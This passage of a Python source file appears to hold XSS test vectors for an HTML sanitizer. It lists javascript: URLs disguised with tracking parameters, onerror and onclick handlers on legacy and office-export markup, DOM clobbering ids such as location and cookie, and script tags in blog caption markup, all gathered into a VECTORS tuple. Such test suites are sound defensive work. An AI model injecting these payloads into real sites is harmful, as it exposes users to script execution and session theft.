    "<a href='utm_source=x&javascript:alert(1)'>x</a>", "<a href='?utm_source=javascript:alert(1)#javascript:alert(1)'>x</a>", "<a href='x?utm_medium=\"onclick=alert(1)//'>x</a>", "<a href='javascript:alert(1)?utm_source=x'>x</a>", "<a href='www.example.org/javascript:alert(1)'>x</a>", "<a href='http:/javascript:alert(1)'>x</a>", "<a href='http://http://javascript:alert(1)'>x</a>", "<a href='htp:javascript:alert(1)'>x</a>",
    "<p style='mso-list:l0 level1 lfo1'>·&nbsp;<script>alert(1)</script>x</p>", "<xml><w:WordDocument><script>alert(1)</script></w:WordDocument></xml>", "<o:p><img src=x onerror=alert(1)></o:p>", "<st1:place onclick=alert(1)>x</st1:place>", "<en-note><en-media hash=x type='text/html' onclick=alert(1)/></en-note>", "<b id=docs-internal-guid-x style=font-weight:normal onclick=alert(1)>x</b>",
    "<font size=7 onclick=alert(1)>x</font>", "<strike onclick=alert(1)>x</strike>", "<acronym title='\"><img src=x onerror=alert(1)>'>x</acronym>", "<tt style='font-family:monospace' onclick=alert(1)>x</tt>", "<dir onclick=alert(1)><li>x</dir>", "<center><p onclick=alert(1)>x</center>", "<a name='x\" onclick=\"alert(1)' href=#x>x</a>", "<p id='\"><img src=x onerror=alert(1)>'><a href='#\"><img src=x onerror=alert(1)>'>x</a>",
    "<li id=alert><a href=#alert>x</a>", "<a id=location href='#location'>x</a><form id=document><input id=cookie name=cookie></form><a href=#document>y</a><a href=#cookie>z</a>", "<img id=x name=y src=x><a href=#x>x</a><a href=#y>y</a>", "<p id='a b'><a href='#a b'>x</a><a href='#a%20b'>y</a>", "<a href='#&#0;x' id='\x00x'>x</a>",
    "<div class=wp-caption><img src=x onerror=alert(1)><p class=wp-caption-text onclick=alert(1)>x</div>", "<table class=tr-caption-container><tr><td><img src=x onerror=alert(1)><tr><td class=tr-caption><script>alert(1)</script>", "<div class=feedflare><a href='javascript:alert(1)'>x</a></div>", "<blockquote class=twitter-tweet><script>alert(1)</script><a href='javascript:alert(1)'>x</a></blockquote>",
)  # fmt: skip

CLASSES: dict[str, tuple[str, ...]] = {
    "scripts": SCRIPTS,
    "styles": STYLES,
    "documents": DOCUMENTS,
    "handlers": HANDLERS,
    "addresses": ADDRESSES,
    "embedded": EMBEDDED,
    "namespaces": NAMESPACES,
    "mutations": MUTATIONS,
    "comments": COMMENTS,
    "entities": ENTITIES,
    "cuts": CUTS,
}
VECTORS = tuple(dict.fromkeys(vector for vectors in CLASSES.values() for vector in vectors))
